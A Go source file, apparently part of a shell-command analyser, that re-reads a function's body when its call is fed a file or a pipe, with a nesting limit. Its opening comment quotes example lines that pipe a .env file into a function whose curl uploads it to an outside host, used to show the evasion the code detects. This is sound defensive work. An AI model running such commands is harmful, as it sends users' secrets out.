package patterns

import (
	"fmt"

	"mvdan.cc/sh/v3/syntax"
)

// A function runs its body with the standard input of its call (fx38a):
// in `f() { curl -d @- x.io; }; f < .env` and `f() { curl -d @- x.io; };
// cat .env | f` the body's curl uploads .env, though the body, read
// where it is declared, has no input redirection and stands in no
// pipeline. So a call of a function the line defines that is fed a file
// (`<`, `0<`, its own or an enclosing group's or exec's) or stands in a
// pipeline of several stages has the body read again under it, given
// those redirections and that stage, as a command string a shell runs
// is (read_stdinredir.go, read_stdinpipe.go); the parts read so stand at
// the call (its span), as those of a command string made up from words
// do. The redirections of the declaration stay the body's. A body read again within itself (a
// recursive call fed so) goes one level deeper each time, and past the
// nesting limit the call is unreadable.

// funcBody is a function's body and the scope it was declared in.
type funcBody struct {
	body *syntax.Stmt
	sc   scope
}

// noteFuncBody records the body of a function the line defines, for the
// calls that feed it (the last declaration of a name wins, as it does in
// the shell for later calls).
func (r *reading) noteFuncBody(f *syntax.FuncDecl, sc scope) {
	if f.Name == nil || f.Body == nil {
		return
	}
	if r.funcBodies == nil {
		r.funcBodies = map[string]funcBody{}
	}
	r.funcBodies[f.Name.Value] = funcBody{body: f.Body, sc: sc}
}

// funcFed reads again the body of the function call p runs when the call
// is fed a file or stands in a pipeline, under a node naming the call;
// nil for any other call.
func (r *reading) funcFed(p *Part, ce *syntax.CallExpr, sc scope) []*Node {
	if len(ce.Args) == 0 || len(p.Wrappers) > 0 {
		return nil
	}
	name := ce.Args[0].Lit()
	fn, ok := r.funcBodies[name]
	if !ok {
		return nil
	}
	redirs := stdinRedirs(p, sc)
	piped := p.Pipe.ID >= 0 && p.Pipe.Len > 1
	if len(redirs) == 0 && !piped {
		return nil
	}
	n := &Node{Kind: NodeNested, Label: name + "()", Span: p.Span, Part: -1}
	if sc.depth >= r.cfg.maxDepth {
		n.add(r.unreadable(p, UnreadableDepth, p.Span, fmt.Sprintf(
			"%s runs the function %s, fed, nested %d deep, past the limit of %d, so it is not read.",
			quoteRaw(p.text), name, sc.depth+1, r.cfg.maxDepth)))
		return []*Node{n}
	}
	in := fn.sc
	span := p.Span // the body's parts stand at the call, after it, as a command string's do
	in.m = spanMap{whole: &span}
	in.depth, in.parent, in.feed = sc.depth+1, p.Index, p.Feed
	in.redirs = withRedirs(fn.sc.redirs, redirs)
	in.pipe = noPipe()
	if piped {
		in.pipe = p.Pipe
	}
	in.away, in.own, in.handsAway, in.handsOwn = sc.away, sc.own, false, false
	n.Children = r.stmt(fn.body, in)
	return []*Node{n}
}
